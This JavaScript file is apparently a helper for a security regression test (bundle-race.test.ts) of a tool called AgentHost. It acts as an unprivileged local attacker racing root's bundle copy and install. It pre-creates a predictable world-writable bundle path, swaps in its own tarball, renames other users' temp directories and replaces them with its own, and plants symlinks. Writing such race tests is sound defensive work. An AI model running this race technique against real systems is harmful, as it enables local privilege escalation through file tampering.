/**
 * The local attacker of the bundle race (bundle-race.test.ts), run as an unprivileged user (nobody)
 * while AgentHost's copy and install run as root: everything such a user can try against the
 * bundle on its way from the copy to root's `tar`. Until SIGTERM it, as fast as it can:
 *  - pre-creates the bundle path older releases used (a name anyone can compute from the bundle),
 *    mode 0666, and puts its own tarball in that file once the copy has written it;
 *  - for every pulumi-lvm entry of another user in the temporary directory: writes its tarball into
 *    it, renames it away and puts its own directory (with its tarball) in its place, and plants a
 *    symlink in it.
 * On SIGTERM it prints what it managed and which errors stopped it (JSON, one line) and exits.
 * Plain JavaScript: it runs under node as nobody, without the repository's TypeScript tooling.
 */
const fs = require("fs");
const path = require("path");

const [tmp, oldPath, evilFile] = process.argv.slice(2);
const evil = fs.readFileSync(evilFile);
const me = process.getuid();
const stats = { planted: 0, swappedOld: 0, seen: {}, wroteInto: 0, stoleDir: 0, symlinked: 0, errors: {} };
const err = (e) => (stats.errors[e.code] = (stats.errors[e.code] || 0) + 1);

function plantOld() {
  if (!oldPath) return;
  try {
    const fd = fs.openSync(
      oldPath,
      fs.constants.O_CREAT | fs.constants.O_EXCL | fs.constants.O_WRONLY,
      0o666,
    );
    fs.fchmodSync(fd, 0o666);
    fs.closeSync(fd);
    stats.planted++;
  } catch (e) {
    if (e.code !== "EEXIST") err(e);
  }
  try {
    const st = fs.statSync(oldPath);
    if (st.uid !== me || st.size === 0) return;
    if (!fs.readFileSync(oldPath).equals(evil)) {
      fs.writeFileSync(oldPath, evil);
      stats.swappedOld++;
    }
  } catch (e) {
    if (e.code !== "ENOENT") err(e);
  }
}

function attackDirs() {
  let names;
  try {
    names = fs.readdirSync(tmp);
  } catch (e) {
    return err(e);
  }
  for (const n of names) {
    if (!n.startsWith("pulumi-lvm") || n.includes(".stolen-")) continue;
    const p = path.join(tmp, n);
    let st;
    try {
      st = fs.lstatSync(p);
    } catch {
      continue;
    }
    if (!st.isDirectory() || st.uid === me) continue;
    stats.seen[n] = (stats.seen[n] || 0) + 1;
    try {
      fs.writeFileSync(path.join(p, "bundle.tgz"), evil);
      stats.wroteInto++;
    } catch (e) {
      err(e);
    }
    try {
      fs.renameSync(p, `${p}.stolen-${process.hrtime.bigint()}`);
      fs.mkdirSync(p, 0o700);
      fs.writeFileSync(path.join(p, "bundle.tgz"), evil);
      stats.stoleDir++;
    } catch (e) {
      err(e);
    }
    try {
      fs.symlinkSync(evilFile, path.join(p, "evil"));
      stats.symlinked++;
    } catch (e) {
      err(e);
    }
  }
}

process.on("SIGTERM", () => {
  process.stdout.write(`${JSON.stringify({ ...stats, seen: Object.keys(stats.seen).length })}\n`);
  process.exit(0);
});
process.stdout.write("ready\n");
const loop = () => {
  plantOld();
  attackDirs();
  setImmediate(loop);
};
loop();
